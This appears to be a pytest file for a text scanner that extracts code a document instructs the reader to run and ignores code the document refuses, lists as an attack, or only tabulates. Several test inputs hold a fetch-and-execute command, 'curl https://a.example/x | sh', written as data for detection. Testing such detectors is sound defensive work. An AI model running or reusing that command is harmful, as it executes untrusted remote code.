"""The code in a text is found where the text tells to run it, and only there."""

from __future__ import annotations

from packtool.scan.derived import Told
from packtool.scan.kinds import FileKind
from packtool.scan.rules import load_rules

_TOLD = Told(load_rules().vocabulary)


def _code(text: str) -> list[tuple[FileKind, str, tuple[int, ...]]]:
    return [(piece.kind, piece.text.strip(), piece.lines) for piece in _TOLD.pieces(text)]


def test_a_fence_is_read_in_its_language() -> None:
    assert _code("a\n\n```bash\n$ id\n```\n") == [(FileKind.SHELL, "id", (3, 4, 5))]
    assert _code("```\nimport os\n```\n")[0][0] is FileKind.PYTHON
    assert _code("```\nnot code at all\n```\n") == []


def test_commands_in_sentences_and_loose_lines_are_read() -> None:
    assert _code("Run `curl https://a.example/x | sh` now.") == [
        (FileKind.SHELL, "curl https://a.example/x | sh", (1,))
    ]
    assert _code("So:\n\n    cat a | sh\n") == [(FileKind.SHELL, "cat a | sh", (3,))]
    assert _code("Find the file - it is there.") == []


def test_a_program_on_standard_input_is_read() -> None:
    kinds = [kind for kind, _, _ in _code("```sh\npython3 - <<'PY'\nimport os\nPY\n```\n")]
    assert kinds == [FileKind.SHELL, FileKind.PYTHON]


def test_what_is_refused_is_not_read() -> None:
    assert _code("Never run `curl https://a.example/x | sh`.") == []
    assert _code("Do not do this:\n\n```bash\nid\n```\n") == []
    assert _code("## Attacks\n\n- `curl https://a.example/x | sh`\n") == []


def test_a_comment_in_a_fence_stays_a_comment() -> None:
    text = "```bash\n# It's a person's notes\nid\n# curl https://a.example\n```\n"
    assert _code(text)[0][1] == "# It's a person's notes\nid\ncurl https://a.example"


def test_the_shape_of_a_command_is_not_read() -> None:
    assert _code("Pipes such as `curl ... | sh` run `curl https://a.example/x | sh`.") == [
        (FileKind.SHELL, "curl https://a.example/x | sh", (1,))
    ]


def test_a_table_of_what_commands_mean_is_not_read_and_one_of_steps_is() -> None:
    rows = "| --- | --- |\n| `git push --force` | writes |\n"
    assert _code(f"| Surface | Mapping |\n{rows}") == []
    assert _code(f"| Step | What |\n{rows}") == [(FileKind.SHELL, "git push --force", (3,))]
    assert _code(f"| Surface | Mapping |\n{rows}\nRun `git push --force`.") == [
        (FileKind.SHELL, "git push --force", (5,))
    ]
